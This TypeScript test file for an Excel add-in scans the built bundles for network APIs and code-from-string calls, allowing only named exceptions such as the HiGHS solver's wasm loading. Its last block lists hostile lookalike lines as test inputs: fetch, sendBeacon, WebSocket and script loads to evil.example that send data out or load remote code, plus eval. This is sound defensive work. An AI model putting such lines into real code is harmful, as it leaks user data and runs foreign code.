/**
 * No data leaves the workbook: the built bundles (dist/*.js, which npm test
 * builds first) contain no network API, no code from strings and no remote
 * code loading, except what loading the add-in's own files needs. Each
 * allowance below names the file, the exact pattern, how many times it may
 * occur and why; anything else found is a failure that shows the code around it.
 */
import fs from 'fs';
import path from 'path';
import { DIST as BUILT } from '../helpers/dist';
import { FORBIDDEN } from '../helpers/forbidden-apis';

/** dist/, or another build to check (NQP_DIST=/path/to/build). */
const DIST = process.env.NQP_DIST || BUILT;


interface Allowance {
  /** Which bundle: its file name. */
  file: RegExp;
  /** Which forbidden rule it relaxes. */
  what: string;
  /** The exact code allowed (every occurrence of the rule must match one allowance). */
  pattern: RegExp;
  /** How many times it occurs. */
  count: number | 'any';
  why: string;
}

/** The entry bundles Excel loads: functions.js (custom functions) and taskpane.js (task pane, ribbon commands). */
const ENTRY = /^(?:functions|taskpane)\.js$/;
/** The lazily loaded chunk of the HiGHS LP solver (emscripten's loader of highs.wasm), used by the DEA functions. */
const HIGHS = /^highs(?:\.[\w-]+)?\.js$/;

const ALLOWANCES: readonly Allowance[] = [
  {
    file: ENTRY,
    what: 'a script element',
    // webpack's chunk loader (__webpack_require__.l): s=document.createElement("script");s.charset="utf-8";…;s.src=<url>
    // (statements joined by ";" — the bundle is minified by renaming only — or by "," after terser's compress).
    pattern: /(\w+)=document\.createElement\("script"\)[;,]\1\.charset="utf-8"/g,
    count: 1,
    why:
      "webpack loads the add-in's own lazy chunk (highs.js, the DEA solver) with a script element; its URL is the " +
      "bundle's own folder (automatic public path, checked below) plus a chunk name that is a file of dist/ (checked below)",
  },
  {
    file: /^taskpane\.js$/,
    what: 'fetch()',
    // src/taskpane/actions.ts: the template file read as base64 for Excel.createWorkbook (Excel for Mac, whose pane cannot download).
    pattern: /fetch\(\w+\.href,\{credentials:"same-origin"\}\)/g,
    count: 1,
    why:
      "on Excel for Mac the pane opens a template with Excel.createWorkbook: it reads the add-in's own .xlsx file, " +
      'after checking that its URL is on the add-in\'s own address (the same file the download link serves elsewhere)',
  },
  {
    file: HIGHS,
    what: 'fetch()',
    // emscripten's instantiateStreaming path and its readAsync fallback, both for the module's own .wasm file.
    pattern: /fetch\(\w+,\{credentials:"same-origin"\}\)/g,
    count: 2,
    why:
      'emscripten fetches highs.wasm, whose URL the solver loader (src/core/shared/lp/highs-solver.ts, locateFile) resolves ' +
      "against the bundle's own folder; same-origin credentials only",
  },
  {
    file: HIGHS,
    what: 'XMLHttpRequest',
    pattern: /\bnew XMLHttpRequest\b/g,
    count: 3,
    why:
      "emscripten's synchronous read of the .wasm inside a web worker (never: the solver runs on the page) and the " +
      'HEAD/GET of FS.createLazyFile (never called by the highs wrapper); dead code shipped with the loader',
  },
  {
    file: HIGHS,
    what: 'XMLHttpRequest',
    pattern: /\bglobalThis\.XMLHttpRequest\b/g,
    count: 2,
    why: "emscripten's feature tests for the lazy-file code above, which abort rather than request",
  },
  {
    file: HIGHS,
    what: 'WebAssembly compilation',
    pattern: /\bWebAssembly\s*\.\s*(?:instantiate|instantiateStreaming|compile|compileStreaming|Module)\b/g,
    count: 'any',
    why: "the chunk is the WebAssembly loader of the solver: it compiles highs.wasm (the add-in's own file) and tiny feature-test modules",
  },
  {
    file: HIGHS,
    what: 'dynamic import()',
    pattern: /(?<![\w$.])import\s*\(\s*["']node:[\w/]+["']\s*\)/g,
    count: 'any',
    why: "emscripten imports Node's built-in modules (node:module) under Node only: a node: specifier cannot be fetched by a browser",
  },
];

const bundles = fs.existsSync(DIST) ? fs.readdirSync(DIST).filter((f) => f.endsWith('.js')) : [];
const read = (f: string): string => fs.readFileSync(path.join(DIST, f), 'utf8');
const context = (code: string, at: number): string => code.slice(Math.max(0, at - 80), at + 80);

it('has built bundles to scan (npm test builds dist/ first)', () => {
  expect(bundles).toEqual(expect.arrayContaining(['functions.js', 'taskpane.js']));
});

describe.each(bundles.map((f) => [f]))('dist/%s', (file) => {
  const code = read(file);

  it.each(FORBIDDEN.map((r) => [r.what, r]))('uses %s only as an allowance below says', (_what, rule) => {
    const allowances = ALLOWANCES.filter((a) => a.what === rule.what && a.file.test(file));
    const found = [...code.matchAll(rule.pattern)].map((m) => m.index ?? 0);
    // Every occurrence must be covered by an allowance's exact pattern.
    const covered = new Set<number>();
    for (const a of allowances) {
      const hits = [...code.matchAll(a.pattern)];
      // An allowance in use must match its exact count (a change in the chunk is reviewed, not waved through).
      if (a.count !== 'any' && hits.length > 0) expect({ allowance: a.why, count: hits.length }).toEqual({ allowance: a.why, count: a.count });
      for (const h of hits) for (const at of found) if (at >= (h.index ?? 0) && at < (h.index ?? 0) + h[0].length) covered.add(at);
    }
    const stray = found.filter((at) => !covered.has(at)).map((at) => context(code, at));
    expect({ file, rule: rule.what, stray }).toEqual({ file, rule: rule.what, stray: [] });
  });
});

describe("webpack's chunk loading in the entry bundles stays on the add-in's own files", () => {
  const entries = bundles.filter((f) => ENTRY.test(f));

  it.each(entries.map((f) => [f]))('%s loads chunks from its own folder (automatic public path)', (file) => {
    const code = read(file);
    if (!/createElement\("script"\)/.test(code)) return; // no lazy chunk: nothing is loaded
    // The public path is computed from the bundle's own <script src> (webpack's "auto"), never a fixed URL.
    expect(code).toContain('Automatic publicPath is not supported in this browser');
    expect(code).not.toMatch(/\.p\s*=\s*["'`](?:https?:)?\/\//);
  });

  it.each(entries.map((f) => [f]))('%s names only chunks that are files of dist/', (file) => {
    const code = read(file);
    if (!/createElement\("script"\)/.test(code)) return;
    // __webpack_require__.u: chunk id → file name. One lazy chunk: u=e=>"highs"+".js" (or "highs.js" once compressed);
    // several: u=e=>({624:"templates",782:"highs"}[e]+".js").
    const one = /\.u=\w+=>"([\w.-]+?)"(?:\+")?(\.js)"/.exec(code);
    const many = /\.u=\w+=>\(\{((?:\d+:"[\w.-]+",?)+)\}\[\w+\]\+"(\.js)"\)/.exec(code);
    const names = one ? [one[1] + one[2]] : many ? [...many[1].matchAll(/\d+:"([\w.-]+)"/g)].map((m) => m[1] + many[2]) : null;
    expect({ file, chunkNaming: names ? 'named chunks' : 'changed: review this test and its allowances' }).toEqual({ file, chunkNaming: 'named chunks' });
    for (const name of names!) expect(bundles).toContain(name);
  });
});

describe('the lazily loaded chunks', () => {
  it('are the HiGHS solver, the ISIC classification, the Chinese of the messages, the template definitions and the preview\'s maths, nothing else', () => {
    expect(bundles.filter((f) => !ENTRY.test(f) && !HIGHS.test(f)).sort()).toEqual(['isic.js', 'live.js', 'messages-zh.js', 'templates.js']);
  });
});

describe('the HiGHS chunk', () => {
  const highs = bundles.filter((f) => HIGHS.test(f));

  it.each(highs.map((f) => [f]))('%s is the emscripten HiGHS loader, and its wasm is one of the add-in files', (file) => {
    expect(read(file)).toContain('Highs_passModel');
    expect(fs.readdirSync(DIST).filter((f) => f.endsWith('.wasm')).length).toBeGreaterThan(0);
  });
});

describe('the allowances are exact', () => {
  // A guard on the guard: the allowance patterns must not be so loose that they would
  // cover a real request to another host.
  const lookalikes = [
    'fetch("https://evil.example/collect",{method:"POST",body:d})',
    'fetch(u,{credentials:"include"})',
    'var x=new WebSocket("wss://evil.example")',
    'navigator.sendBeacon("https://evil.example",d)',
    'import("https://evil.example/x.js")',
    'eval(s)',
    '(0,eval)(s)',
    'new Function("return this")()',
    'Function("a","return a")',
    'setTimeout("alert(1)",0)',
    'importScripts("https://evil.example/w.js")',
    'var e=document.createElement("script");e.src="https://evil.example/x.js"',
  ];
  it.each(lookalikes.map((l) => [l]))('%s is caught and allowed nowhere', (code) => {
    const caught = FORBIDDEN.filter((r) => new RegExp(r.pattern.source).test(code));
    expect(caught.length).toBeGreaterThan(0);
    const allowed = ALLOWANCES.filter((a) => new RegExp(a.pattern.source).test(code));
    expect(allowed.map((a) => a.why)).toEqual([]);
  });
});
